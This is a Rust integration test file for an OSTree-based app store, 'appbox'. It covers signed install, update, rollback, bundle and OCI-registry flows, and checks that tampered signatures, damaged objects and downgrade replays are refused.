//! The store end to end: build the sample apps into a signed OSTree repo,
//! serve it with a real nginx, add it as a remote, install, run, uninstall;
//! and refuse remotes and commits that are not signed by a trusted key.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};

use appbox_tests::{
    appbox_ok, chown_tree, describe, make_readable, output_with_input, publish_samples as publish,
    rebuild_sample as rebuild, Nginx, Published, Registry, World,
};

fn fails(world: &World, args: &[&str]) -> String {
    let output = world.appbox(args).stdin(Stdio::null()).output().unwrap();
    assert!(
        !output.status.success(),
        "appbox {args:?} should fail: {}",
        describe(&output)
    );
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// `appbox remote-add NAME URL` trusting the publisher's key.
fn add_remote(world: &World, published: &Published, name: &str, url: &str) {
    appbox_ok(
        world,
        &[
            "remote-add",
            name,
            url,
            "--sign-pubkey",
            published.public_key.to_str().unwrap(),
        ],
    );
}

fn store_dir(world: &World) -> PathBuf {
    world.home.join(".local/share/appbox")
}

#[test]
fn publish_install_run_and_uninstall_over_http() {
    let world = World::new();
    let published = publish(
        &world,
        &["org.appbox.Platform", "org.appbox.Wc", "org.appbox.Fetch"],
    );
    let nginx = Nginx::serve(&world, &world.root.join("srv"));
    let url = nginx.url("repo");

    add_remote(&world, &published, "test", &url);
    let listing = appbox_ok(&world, &["remote-ls", "test", "--json"]);
    let listing = String::from_utf8_lossy(&listing.stdout);
    assert!(
        listing.contains("\"org.appbox.Wc\"") && listing.contains("\"org.appbox.Fetch\""),
        "{listing}"
    );
    assert!(
        listing.contains("--share=network"),
        "Fetch's permission is in the catalog: {listing}"
    );

    let installed = appbox_ok(&world, &["install", "test", "org.appbox.Wc"]);
    assert!(String::from_utf8_lossy(&installed.stdout).contains("Installed org.appbox.Wc"));
    assert!(
        nginx.access_log().contains("/repo/summary"),
        "the summary came over HTTP"
    );

    // The installed app runs in the sandbox, from its deployment.
    let output = output_with_input(world.appbox(["run", "org.appbox.Wc"]), b"one two\nthree\n");
    assert!(output.status.success(), "{}", describe(&output));
    let counts: Vec<String> = String::from_utf8_lossy(&output.stdout)
        .split_whitespace()
        .map(str::to_owned)
        .collect();
    assert_eq!(counts[..3], ["2", "3", "14"], "{}", describe(&output));

    let list = appbox_ok(&world, &["list", "--json"]);
    let list = String::from_utf8_lossy(&list.stdout);
    assert!(
        list.contains("\"org.appbox.Wc\"") && !list.contains("org.appbox.Fetch"),
        "{list}"
    );
    let info = appbox_ok(&world, &["info", "org.appbox.Wc"]);
    assert!(String::from_utf8_lossy(&info.stdout).contains("Origin: test"));

    // The deployment: a checkout named by its commit, and an atomic `current` link.
    let app_dir = store_dir(&world).join("app/org.appbox.Wc");
    let current = std::fs::read_link(app_dir.join("current")).unwrap();
    assert_eq!(current.to_str().unwrap().len(), 64, "{current:?}");
    assert!(app_dir.join(&current).join("files/bin/wc-tool").is_file());
    let desktop = std::fs::read_to_string(
        store_dir(&world).join("exports/share/applications/org.appbox.Wc.desktop"),
    )
    .unwrap();
    assert!(
        desktop.contains("run --command=wc-tool org.appbox.Wc -- %F"),
        "the exported launcher runs the app through appbox:\n{desktop}"
    );
    let validate = std::process::Command::new("desktop-file-validate")
        .arg(store_dir(&world).join("exports/share/applications/org.appbox.Wc.desktop"))
        .output()
        .unwrap();
    assert!(validate.status.success(), "{}", describe(&validate));

    appbox_ok(&world, &["uninstall", "org.appbox.Wc"]);
    assert!(!app_dir.exists());
    assert!(!store_dir(&world)
        .join("exports/share/applications/org.appbox.Wc.desktop")
        .exists());
    let error = fails(&world, &["run", "org.appbox.Wc"]);
    assert!(error.contains("not installed"), "{error}");
}

#[test]
fn untrusted_remotes_and_commits_are_refused() {
    let world = World::new();
    let published = publish(&world, &["org.appbox.Platform", "org.appbox.Wc"]);
    let nginx = Nginx::serve(&world, &world.root.join("srv"));
    let url = nginx.url("repo");
    let remotes_file = world.home.join(".config/appbox/remotes.toml");

    // No key and no --no-verify: refused, and nothing is written.
    let error = fails(&world, &["remote-add", "nokey", &url]);
    assert!(
        error.contains("--no-verify") || error.contains("--sign-pubkey"),
        "{error}"
    );
    assert!(!remotes_file.exists());

    // A remote trusted with some other key: the summary does not verify.
    let other = world.root.join("keys/other");
    appbox_ok(&world, &["repo", "keygen", other.to_str().unwrap()]);
    appbox_ok(
        &world,
        &[
            "remote-add",
            "wrongkey",
            &url,
            "--sign-pubkey",
            &format!("{}.pub", other.display()),
        ],
    );
    let error = fails(&world, &["install", "wrongkey", "org.appbox.Wc"]);
    assert!(error.contains("not signed by a trusted key"), "{error}");
    assert!(!store_dir(&world).join("app/org.appbox.Wc").exists());

    // The right key, but the commit's signature is damaged: nothing is deployed.
    add_remote(&world, &published, "test", &url);
    let commit = std::fs::read_to_string(
        published
            .repo
            .join("refs/heads/app/org.appbox.Wc/x86_64/stable"),
    )
    .unwrap();
    let commit = commit.trim();
    let commitmeta = [published.repo.join(format!(
        "objects/{}/{}.commitmeta",
        &commit[..2],
        &commit[2..]
    ))];
    let mut bytes = std::fs::read(&commitmeta[0]).unwrap();
    let last = bytes.len() - 20;
    bytes[last] ^= 0xff;
    std::fs::write(&commitmeta[0], bytes).unwrap();
    let error = fails(&world, &["install", "test", "org.appbox.Wc"]);
    assert!(error.contains("is not signed by a trusted key"), "{error}");
    assert!(!store_dir(&world).join("app/org.appbox.Wc").exists());
    // The runtime, signed correctly, was pulled first; after the damaged
    // commit was fetched, nothing of its tree was.
    let log = nginx.access_log();
    let commit_request = format!("{}.commit ", &commit[2..]);
    assert!(
        log.contains(&commit_request),
        "the commit was fetched:\n{log}"
    );
    let after: Vec<&str> = log
        .lines()
        .skip_while(|line| !line.contains(&commit_request))
        .skip(1)
        .collect();
    assert!(
        after
            .iter()
            .all(|line| !line.contains(".filez") && !line.contains(".dirtree")),
        "no content of an unverified commit was fetched:\n{log}"
    );

    // --no-verify is an explicit choice, and then the damaged signature is not checked.
    appbox_ok(&world, &["remote-add", "unverified", &url, "--no-verify"]);
    appbox_ok(&world, &["install", "unverified", "org.appbox.Wc"]);
    assert!(store_dir(&world).join("app/org.appbox.Wc/current").exists());

    // A disabled remote is not used; a deleted one is gone.
    appbox_ok(&world, &["remote-modify", "wrongkey", "--disable"]);
    let error = fails(&world, &["install", "wrongkey", "org.appbox.Wc"]);
    assert!(
        error.contains("is disabled") && error.contains("--enable"),
        "{error}"
    );
    appbox_ok(&world, &["remote-delete", "wrongkey"]);
    let remotes = json(&appbox_ok(&world, &["remote-ls", "--json"]));
    assert!(
        remotes.get("wrongkey").is_none() && remotes.get("test").is_some(),
        "{remotes}"
    );
    let error = fails(&world, &["remote-delete", "wrongkey"]);
    assert!(
        error.contains("remote-ls"),
        "the error says what to do: {error}"
    );
}

/// `appbox run` stays fast because only `appbox-store` loads libostree and GLib.
#[test]
fn only_the_store_binary_links_libostree() {
    let world = World::new();
    let needed = |binary: PathBuf| {
        let output = std::process::Command::new("readelf")
            .arg("-d")
            .arg(&binary)
            .output()
            .expect("run readelf (binutils)");
        assert!(output.status.success(), "{}", describe(&output));
        String::from_utf8_lossy(&output.stdout)
            .lines()
            .filter(|l| l.contains("(NEEDED)"))
            .map(str::to_owned)
            .collect::<Vec<_>>()
            .join("\n")
    };
    let launcher = needed(world.appbox_path());
    assert!(
        !launcher.contains("libostree") && !launcher.contains("libglib"),
        "appbox must not load libostree or GLib:\n{launcher}"
    );
    let store = needed(world.appbox_path().with_file_name("appbox-store"));
    assert!(store.contains("libostree"), "{store}");
}

fn json(output: &Output) -> serde_json::Value {
    serde_json::from_slice(&output.stdout).unwrap_or_else(|e| panic!("{e}: {}", describe(output)))
}

fn current_commit(world: &World, id: &str) -> String {
    let link = std::fs::read_link(store_dir(world).join("app").join(id).join("current")).unwrap();
    link.to_str().unwrap().to_owned()
}

#[test]
fn updates_show_new_permissions_and_roll_back() {
    let world = World::new();
    let published = publish(&world, &["org.appbox.Platform", "org.appbox.Wc"]);
    let nginx = Nginx::serve(&world, &world.root.join("srv"));
    add_remote(&world, &published, "test", &nginx.url("repo"));
    appbox_ok(&world, &["install", "test", "org.appbox.Wc"]);
    let first = current_commit(&world, "org.appbox.Wc");
    appbox_ok(&world, &["update"]); // nothing new: a no-op
    assert_eq!(current_commit(&world, "org.appbox.Wc"), first);

    // Version 1.1.0 changes one file and asks for the network.
    let manifest = world.root.join("manifests/org.appbox.Wc.toml");
    let text_before = std::fs::read_to_string(&manifest).unwrap();
    let changed = text_before
        .replace("version = \"1.0.0\"", "version = \"1.1.0\"")
        .replace("permissions = []", "permissions = [\"--share=network\"]");
    assert_ne!(changed, text_before);
    std::fs::write(&manifest, changed).unwrap();
    let source = world.root.join("manifests/org.appbox.Wc/src/wc.c");
    let mut code = std::fs::read_to_string(&source).unwrap();
    code.push_str("\n/* 1.1.0 */\n");
    std::fs::write(&source, code).unwrap();
    let built = rebuild(&world, &published, "org.appbox.Wc");
    assert_eq!(json(&built)["static-delta"], true, "{}", describe(&built));

    // Without --yes (and no terminal to ask on), the new permission stops the update.
    let output = world
        .appbox(["update"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(!output.status.success(), "{}", describe(&output));
    let shown = String::from_utf8_lossy(&output.stdout);
    assert!(
        shown.contains("new permission: --share=network"),
        "{}",
        describe(&output)
    );
    assert!(
        String::from_utf8_lossy(&output.stderr).contains("--yes"),
        "{}",
        describe(&output)
    );
    assert_eq!(current_commit(&world, "org.appbox.Wc"), first);

    let updated = appbox_ok(&world, &["update", "--yes"]);
    assert!(String::from_utf8_lossy(&updated.stdout).contains("Updated org.appbox.Wc to 1.1.0"));
    let second = current_commit(&world, "org.appbox.Wc");
    assert_ne!(second, first);
    assert!(
        nginx.access_log().contains("/repo/deltas/"),
        "the update used the static delta:\n{}",
        nginx.access_log()
    );
    let info = json(&appbox_ok(&world, &["info", "org.appbox.Wc", "--json"]));
    assert_eq!(info["entry"]["permissions"][0], "--share=network");

    // Rollback returns to the first deployment, which was kept.
    appbox_ok(&world, &["rollback", "org.appbox.Wc"]);
    assert_eq!(current_commit(&world, "org.appbox.Wc"), first);
    let history = json(&appbox_ok(&world, &["history", "--json"]));
    let actions: Vec<&str> = history
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["id"] == "org.appbox.Wc")
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    assert_eq!(actions, ["install", "update", "rollback"]);

    let found = appbox_ok(&world, &["search", "COUNT"]);
    assert!(
        String::from_utf8_lossy(&found.stdout).contains("org.appbox.Wc"),
        "{}",
        describe(&found)
    );
    let none = appbox_ok(&world, &["search", "no-such-word"]);
    assert!(String::from_utf8_lossy(&none.stdout).contains("No matches"));
}

/// Bytes on disk under `dir`: once per inode, and once per path.
fn disk_use(dir: &Path) -> (u64, u64) {
    use std::os::unix::fs::MetadataExt;
    let mut seen = std::collections::BTreeSet::new();
    let (mut unique, mut per_path) = (0, 0);
    for path in appbox_tests::walk(dir) {
        let meta = std::fs::symlink_metadata(&path).unwrap();
        let bytes = meta.blocks() * 512;
        per_path += bytes;
        if seen.insert((meta.dev(), meta.ino())) {
            unique += bytes;
        }
    }
    (unique, per_path)
}

#[test]
fn three_apps_share_one_runtime_on_disk() {
    use std::os::unix::fs::MetadataExt;
    let world = World::new();
    let apps = ["org.appbox.Hello", "org.appbox.Wc", "org.appbox.Fetch"];
    let mut all = vec!["org.appbox.Platform"];
    all.extend(apps);
    let published = publish(&world, &all);
    let nginx = Nginx::serve(&world, &world.root.join("srv"));
    add_remote(&world, &published, "test", &nginx.url("repo"));
    // The first app pulls the runtime; the others find it installed.
    let first = appbox_ok(&world, &["install", "test", apps[0]]);
    assert!(String::from_utf8_lossy(&first.stdout).contains("Installed org.appbox.Platform"));
    for app in &apps[1..] {
        let output = appbox_ok(&world, &["install", "test", app]);
        assert!(!String::from_utf8_lossy(&output.stdout).contains("org.appbox.Platform"));
    }
    let hello = appbox_ok(&world, &["run", "org.appbox.Hello"]);
    assert!(String::from_utf8_lossy(&hello.stdout).contains("Hello from inside the appbox sandbox"));

    let store = store_dir(&world);
    let runtime = store.join("runtime/org.appbox.Platform/current/files");
    let libc = runtime.join("lib/x86_64-linux-gnu/libc.so.6");
    assert!(
        std::fs::metadata(&libc).unwrap().nlink() >= 2,
        "the runtime's files are hardlinks to the repository's objects"
    );
    let (runtime_bytes, _) = disk_use(&store.join("runtime"));
    let (apps_bytes, _) = disk_use(&store.join("app"));
    let (unique, per_path) = disk_use(&store);
    // Three apps each bundling the runtime, plus the repository's own copy.
    let bundled = 3 * runtime_bytes + apps_bytes + runtime_bytes;
    eprintln!(
        "disk use of 3 apps on one runtime: {} kB on disk ({} kB counting every hardlink); \
         runtime {} kB, the 3 apps {} kB; bundling the runtime into each app would take {} kB",
        unique / 1024,
        per_path / 1024,
        runtime_bytes / 1024,
        apps_bytes / 1024,
        bundled / 1024
    );
    assert!(
        unique * 10 < per_path * 6,
        "hardlinks share the objects: {unique} vs {per_path}"
    );
    assert!(
        unique * 2 < bundled,
        "sharing beats bundling: {unique} vs {bundled}"
    );
}

#[test]
fn bundles_carry_their_signature() {
    let world = World::new();
    let published = publish(&world, &["org.appbox.Platform", "org.appbox.Wc"]);
    let bundle = world.root.join("srv/wc.bundle");
    let written = appbox_ok(
        &world,
        &[
            "build-bundle",
            published.repo.to_str().unwrap(),
            "org.appbox.Wc",
            bundle.to_str().unwrap(),
        ],
    );
    assert!(String::from_utf8_lossy(&written.stdout).contains("org.appbox.Wc"));
    let nginx = Nginx::serve(&world, &world.root.join("srv"));
    add_remote(&world, &published, "test", &nginx.url("repo"));
    // The bundle's runtime comes from the remote.
    appbox_ok(&world, &["install", "test", "org.appbox.Platform"]);

    // Checked against some other key: refused, nothing deployed.
    let other = world.root.join("keys/other");
    appbox_ok(&world, &["repo", "keygen", other.to_str().unwrap()]);
    let error = fails(
        &world,
        &[
            "install",
            "--bundle",
            bundle.to_str().unwrap(),
            "--sign-pubkey",
            &format!("{}.pub", other.display()),
        ],
    );
    assert!(error.contains("not signed by a trusted key"), "{error}");
    assert!(!store_dir(&world).join("app/org.appbox.Wc").exists());

    // A damaged bundle: refused.
    let damaged = world.root.join("srv/damaged.bundle");
    let mut bytes = std::fs::read(&bundle).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 0x55;
    std::fs::write(&damaged, bytes).unwrap();
    fails(&world, &["install", "--bundle", damaged.to_str().unwrap()]);
    assert!(!store_dir(&world).join("app/org.appbox.Wc/current").exists());

    // Checked against the keys of the configured remotes: installed, and it runs.
    appbox_ok(&world, &["install", "--bundle", bundle.to_str().unwrap()]);
    let output = world
        .appbox(["run", "org.appbox.Wc", "--", "-l", "/app/bin/wc-tool"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", describe(&output));
}

#[test]
fn a_running_instance_keeps_its_deployment_and_uninstall_cleans_up() {
    let world = World::new();
    let published = publish(&world, &["org.appbox.Platform", "org.appbox.Wc"]);
    let nginx = Nginx::serve(&world, &world.root.join("srv"));
    add_remote(&world, &published, "test", &nginx.url("repo"));
    appbox_ok(&world, &["install", "test", "org.appbox.Wc"]);
    let first = current_commit(&world, "org.appbox.Wc");
    let app_dir = store_dir(&world).join("app/org.appbox.Wc");

    // The app waits on its stdin, running from the first deployment.
    let mut running = world
        .appbox(["run", "org.appbox.Wc"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    for _ in 0..200 {
        if String::from_utf8_lossy(&appbox_ok(&world, &["ps"]).stdout).contains("org.appbox.Wc") {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    // Two updates: the first deployment is neither current nor previous now,
    // but the running instance still uses it.
    for _ in 0..2 {
        rebuild(&world, &published, "org.appbox.Wc");
        appbox_ok(&world, &["update", "--yes"]);
    }
    assert_ne!(current_commit(&world, "org.appbox.Wc"), first);
    assert!(
        app_dir.join(&first).is_dir(),
        "the running instance's deployment is kept"
    );
    let error = fails(&world, &["uninstall", "org.appbox.Wc"]);
    assert!(error.contains("is running"), "{error}");

    running
        .stdin
        .take()
        .unwrap()
        .write_all(b"still here\n")
        .unwrap();
    let output = running.wait_with_output().unwrap();
    assert!(output.status.success());
    assert!(
        String::from_utf8_lossy(&output.stdout).contains('2'),
        "{}",
        describe(&output)
    );

    // The next update prunes it.
    rebuild(&world, &published, "org.appbox.Wc");
    appbox_ok(&world, &["update", "--yes"]);
    assert!(
        !app_dir.join(&first).exists(),
        "an unused old deployment is removed"
    );
    let deployments = std::fs::read_dir(&app_dir)
        .unwrap()
        .filter(|e| e.as_ref().unwrap().file_name().len() == 64)
        .count();
    assert_eq!(deployments, 2, "current and previous are kept");

    // The app's data goes only when asked; the runtime only when unused.
    let data = world.home.join(".var/app/org.appbox.Wc");
    assert!(data.is_dir());
    let error = fails(&world, &["uninstall", "org.appbox.Platform"]);
    assert!(error.contains("still needed by org.appbox.Wc"), "{error}");
    appbox_ok(&world, &["uninstall", "org.appbox.Wc", "--delete-data"]);
    assert!(!data.exists());
    let unused = appbox_ok(&world, &["uninstall", "--unused"]);
    assert!(String::from_utf8_lossy(&unused.stdout).contains("Uninstalled org.appbox.Platform"));
    assert!(!store_dir(&world)
        .join("runtime/org.appbox.Platform")
        .exists());
    let list = json(&appbox_ok(&world, &["list", "--json"]));
    assert_eq!(list, serde_json::json!([]));
    // Uninstalling pruned the repository: no file objects are left.
    let left: Vec<PathBuf> = appbox_tests::walk(&store_dir(&world).join("repo/objects"))
        .into_iter()
        .filter(|p| p.extension().is_some_and(|e| e == "file"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn every_sample_app_installs_with_valid_exports() {
    let world = World::new();
    let apps = [
        "org.appbox.Hello",
        "org.appbox.Wc",
        "org.appbox.Fetch",
        "org.appbox.Notes",
    ];
    let mut all = vec!["org.appbox.Platform"];
    all.extend(apps);
    let published = publish(&world, &all);
    let url = format!("file://{}", published.repo.display());
    add_remote(&world, &published, "samples", &url);
    let catalog = json(&appbox_ok(&world, &["remote-ls", "samples", "--json"]));
    let entries = catalog.as_array().unwrap();
    assert_eq!(entries.len(), all.len(), "{catalog:#}");
    for entry in entries {
        let id = entry["id"].as_str().unwrap();
        if entry["kind"] == "app" {
            assert!(
                entry["icon"]["data"]
                    .as_str()
                    .is_some_and(|d| !d.is_empty()),
                "{id} has an icon"
            );
        }
        assert!(entry["installed-size"].as_u64().unwrap() > 0, "{id}");
        assert!(
            entry["published"]["download-size"].as_u64().unwrap() > 0,
            "{id}"
        );
    }
    let notes = entries
        .iter()
        .find(|e| e["id"] == "org.appbox.Notes")
        .unwrap();
    assert_eq!(notes["permissions"][0], "--socket=wayland", "{notes:#}");
    for app in apps {
        appbox_ok(&world, &["install", "samples", app]);
        let exports = store_dir(&world).join("exports/share");
        let desktop = exports.join(format!("applications/{app}.desktop"));
        let metainfo = exports.join(format!("metainfo/{app}.metainfo.xml"));
        let icon = exports.join(format!("icons/hicolor/scalable/apps/{app}.svg"));
        assert!(icon.is_file(), "{}", icon.display());
        for (tool, args) in [
            ("desktop-file-validate", vec![desktop.as_os_str()]),
            (
                "appstreamcli",
                vec![
                    "validate".as_ref(),
                    "--no-net".as_ref(),
                    metainfo.as_os_str(),
                ],
            ),
        ] {
            let output = std::process::Command::new(tool)
                .args(args)
                .output()
                .unwrap();
            assert!(
                output.status.success(),
                "{tool} on {app}: {}",
                describe(&output)
            );
        }
    }
    let fetch = world
        .appbox(["run", "org.appbox.Fetch"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(
        fetch.status.code(),
        Some(2),
        "Fetch without a URL is a usage error: {}",
        describe(&fetch)
    );
}

#[test]
fn downgrades_and_damaged_objects_are_refused() {
    let world = World::new();
    let published = publish(&world, &["org.appbox.Platform", "org.appbox.Wc"]);
    // What the server held at version 1, kept by an attacker to replay later.
    let old_state = world.root.join("old-repo");
    let copied = std::process::Command::new("cp")
        .arg("-a")
        .arg(&published.repo)
        .arg(&old_state)
        .status()
        .unwrap();
    assert!(copied.success());
    // Commit timestamps have a resolution of one second.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    rebuild(&world, &published, "org.appbox.Wc");
    let nginx = Nginx::serve(&world, &world.root.join("srv"));
    add_remote(&world, &published, "test", &nginx.url("repo"));
    appbox_ok(&world, &["install", "test", "org.appbox.Wc"]);
    let newest = current_commit(&world, "org.appbox.Wc");

    // The old, validly signed state is served again: the update is refused.
    std::fs::rename(&published.repo, world.root.join("new-repo")).unwrap();
    std::fs::rename(&old_state, &published.repo).unwrap();
    let output = world
        .appbox(["update", "--yes"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(!output.status.success(), "{}", describe(&output));
    assert!(
        String::from_utf8_lossy(&output.stderr).contains("older than the installed one"),
        "{}",
        describe(&output)
    );
    assert_eq!(current_commit(&world, "org.appbox.Wc"), newest);

    // A bit flipped in a file object on the server: libostree's checksums catch it.
    appbox_ok(&world, &["uninstall", "org.appbox.Wc"]);
    let objects: Vec<PathBuf> = appbox_tests::walk(&published.repo.join("objects"))
        .into_iter()
        .filter(|p| p.extension().is_some_and(|e| e == "filez"))
        .collect();
    for object in &objects {
        let mut bytes = std::fs::read(object).unwrap();
        let last = bytes.len() - 1;
        bytes[last] ^= 0x01;
        std::fs::write(object, bytes).unwrap();
    }
    let error = fails(&world, &["install", "test", "org.appbox.Wc"]);
    assert!(
        error.to_lowercase().contains("corrupt") || error.contains("checksum"),
        "a damaged object gives a clear error: {error}"
    );
    assert!(!store_dir(&world).join("app/org.appbox.Wc/current").exists());
}

#[test]
fn an_oci_registry_is_a_remote() {
    let world = World::new();
    let published = publish(&world, &["org.appbox.Platform", "org.appbox.Wc"]);
    let registry = Registry::start(&world);
    let push = |id: &str| {
        let image = format!("{}/apps/{}:stable", registry.host(), id.to_lowercase());
        let pushed = appbox_ok(
            &world,
            &[
                "build-export",
                published.repo.to_str().unwrap(),
                id,
                "--oci",
                &image,
                "--insecure",
            ],
        );
        assert!(
            String::from_utf8_lossy(&pushed.stdout).contains("sha256:"),
            "{}",
            describe(&pushed)
        );
        image
    };
    push("org.appbox.Platform");
    let image = push("org.appbox.Wc");
    // skopeo sees an ordinary image, labelled with the ostree commit.
    let inspect = std::process::Command::new("skopeo")
        .args([
            "inspect",
            "--tls-verify=false",
            &format!("docker://{image}"),
        ])
        .env("HOME", &world.home)
        .output()
        .unwrap();
    assert!(inspect.status.success(), "{}", describe(&inspect));
    assert!(String::from_utf8_lossy(&inspect.stdout).contains("ostree.commit"));

    let url = format!("oci+http://{}/apps", registry.host());
    add_remote(&world, &published, "registry", &url);
    let error = fails(&world, &["remote-ls", "registry"]);
    assert!(error.contains("has no catalog"), "{error}");
    let installed = appbox_ok(&world, &["install", "registry", "org.appbox.Wc"]);
    let said = String::from_utf8_lossy(&installed.stdout);
    assert!(
        said.contains("Installed org.appbox.Platform") && said.contains("Installed org.appbox.Wc"),
        "{said}"
    );
    let first = current_commit(&world, "org.appbox.Wc");
    let output = world
        .appbox(["run", "org.appbox.Wc", "--", "-c", "/app/bin/wc-tool"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", describe(&output));

    // A new commit pushed to the registry is an update.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    rebuild(&world, &published, "org.appbox.Wc");
    push("org.appbox.Wc");
    let updated = appbox_ok(&world, &["update", "--yes"]);
    assert!(
        String::from_utf8_lossy(&updated.stdout).contains("Updated org.appbox.Wc"),
        "{}",
        describe(&updated)
    );
    assert_ne!(current_commit(&world, "org.appbox.Wc"), first);

    // An image signed by someone else is refused.
    let other = world.root.join("keys/other");
    appbox_ok(&world, &["repo", "keygen", other.to_str().unwrap()]);
    appbox_ok(
        &world,
        &[
            "remote-add",
            "stranger",
            &url,
            "--sign-pubkey",
            &format!("{}.pub", other.display()),
        ],
    );
    appbox_ok(&world, &["uninstall", "org.appbox.Wc"]);
    let error = fails(&world, &["install", "stranger", "org.appbox.Wc"]);
    assert!(error.contains("not signed by a trusted key"), "{error}");
}

/// A small deterministic random source, so a failing run can be replayed
/// from the seed it prints.
struct Lcg(u64);

impl Lcg {
    fn below(&mut self, limit: u64) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        (self.0 >> 33) % limit.max(1)
    }
}

/// Runs `appbox ARGS` and kills it with SIGKILL after `delay` (unless it
/// finished first). Returns whether it was killed.
fn kill_after(world: &World, args: &[&str], delay: std::time::Duration) -> bool {
    let mut child = world
        .appbox(args)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let start = std::time::Instant::now();
    while start.elapsed() < delay {
        if child.try_wait().unwrap().is_some() {
            return false;
        }
        std::thread::sleep(std::time::Duration::from_micros(200));
    }
    let killed = child.try_wait().unwrap().is_none();
    let _ = child.kill();
    let _ = child.wait();
    killed
}

fn timed(world: &World, args: &[&str]) -> std::time::Duration {
    let start = std::time::Instant::now();
    appbox_ok(world, args);
    start.elapsed()
}

/// After `appbox repair`, the app is either fully installed (and runs, at one
/// of `commits`) or fully absent.
fn check_consistent(world: &World, commits: &[String]) -> bool {
    let repair = appbox_ok(world, &["repair", "--json"]);
    assert!(
        json(&repair)["problems"].as_array().unwrap().is_empty(),
        "{}",
        describe(&repair)
    );
    let dir = store_dir(world).join("app/org.appbox.Wc");
    if !dir.join("current").exists() {
        assert!(
            !dir.exists(),
            "an app that is not installed leaves nothing behind"
        );
        let error = fails(world, &["run", "org.appbox.Wc"]);
        assert!(error.contains("not installed"), "{error}");
        return false;
    }
    let current = current_commit(world, "org.appbox.Wc");
    assert!(
        commits.contains(&current),
        "{current} is neither the old nor the new version"
    );
    let output = world
        .appbox(["run", "org.appbox.Wc", "--", "-c", "/app/bin/wc-tool"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "the installed app runs: {}",
        describe(&output)
    );
    true
}

#[test]
fn kill_9_during_install_update_and_uninstall_leaves_old_or_new() {
    let world = World::new();
    let published = publish(&world, &["org.appbox.Platform", "org.appbox.Wc"]);
    let nginx = Nginx::serve(&world, &world.root.join("srv"));
    add_remote(&world, &published, "test", &nginx.url("repo"));
    appbox_ok(&world, &["install", "test", "org.appbox.Platform"]);
    let seed = std::time::UNIX_EPOCH.elapsed().unwrap().as_nanos() as u64;
    eprintln!("kill points from seed {seed}");
    let mut random = Lcg(seed);
    // Each kill lands at a random point within how long the operation last
    // took to finish; runs that finish first do not count, and the loop goes
    // on until enough kills landed (the machine's speed varies under load).
    let mut kill_at = |took: std::time::Duration| {
        std::time::Duration::from_micros(random.below(took.as_micros() as u64 * 9 / 10 + 1))
    };
    let head = |published: &Published| {
        let text = std::fs::read_to_string(
            published
                .repo
                .join("refs/heads/app/org.appbox.Wc/x86_64/stable"),
        )
        .unwrap();
        text.trim().to_owned()
    };
    let mut kills = [0u32; 3];
    const WANTED: [u32; 3] = [8, 8, 6];
    const MOST_TRIES: u32 = 40;

    // Install: afterwards nothing, or the app; a rerun completes.
    let mut took = timed(&world, &["install", "test", "org.appbox.Wc"]);
    appbox_ok(&world, &["uninstall", "org.appbox.Wc"]);
    let built = head(&published);
    for _ in 0..MOST_TRIES {
        if kills[0] >= WANTED[0] {
            break;
        }
        kills[0] += kill_after(&world, &["install", "test", "org.appbox.Wc"], kill_at(took)) as u32;
        if !check_consistent(&world, std::slice::from_ref(&built)) {
            took = timed(&world, &["install", "test", "org.appbox.Wc"]);
        }
        appbox_ok(&world, &["uninstall", "org.appbox.Wc"]);
    }

    // Update: afterwards the old or the new version; a rerun completes.
    appbox_ok(&world, &["install", "test", "org.appbox.Wc"]);
    for _ in 0..MOST_TRIES {
        if kills[1] >= WANTED[1] {
            break;
        }
        let old = current_commit(&world, "org.appbox.Wc");
        rebuild(&world, &published, "org.appbox.Wc");
        let new = head(&published);
        kills[1] += kill_after(&world, &["update", "--yes"], kill_at(took)) as u32;
        assert!(
            check_consistent(&world, &[old, new.clone()]),
            "an update never uninstalls"
        );
        took = timed(&world, &["update", "--yes"]);
        assert_eq!(current_commit(&world, "org.appbox.Wc"), new);
    }

    // Uninstall: afterwards the app, or nothing; a rerun completes.
    let mut took = timed(&world, &["uninstall", "org.appbox.Wc"]);
    for _ in 0..MOST_TRIES {
        if kills[2] >= WANTED[2] {
            break;
        }
        appbox_ok(&world, &["install", "test", "org.appbox.Wc"]);
        let installed = current_commit(&world, "org.appbox.Wc");
        kills[2] += kill_after(&world, &["uninstall", "org.appbox.Wc"], kill_at(took)) as u32;
        if check_consistent(&world, &[installed]) {
            took = timed(&world, &["uninstall", "org.appbox.Wc"]);
        }
    }
    eprintln!("killed install, update and uninstall {kills:?} times");
    assert_eq!(
        kills, WANTED,
        "not enough kills landed in {MOST_TRIES} tries (seed {seed})"
    );
}

/// Adds `org.appbox.Big` to the publisher's manifests: Wc's program plus
/// `megabytes` files of 1 MB of random bytes (which do not compress).
fn add_big_app(world: &World, megabytes: usize) {
    let manifests = world.root.join("manifests");
    let dir = manifests.join("org.appbox.Big");
    std::fs::create_dir_all(dir.join("src/data")).unwrap();
    std::fs::copy(
        manifests.join("org.appbox.Wc/src/wc.c"),
        dir.join("src/wc.c"),
    )
    .unwrap();
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    for n in 0..megabytes {
        let mut chunk = Vec::with_capacity(1 << 20);
        while chunk.len() < 1 << 20 {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            chunk.extend_from_slice(&state.to_le_bytes());
        }
        std::fs::write(dir.join(format!("src/data/{n}.bin")), chunk).unwrap();
    }
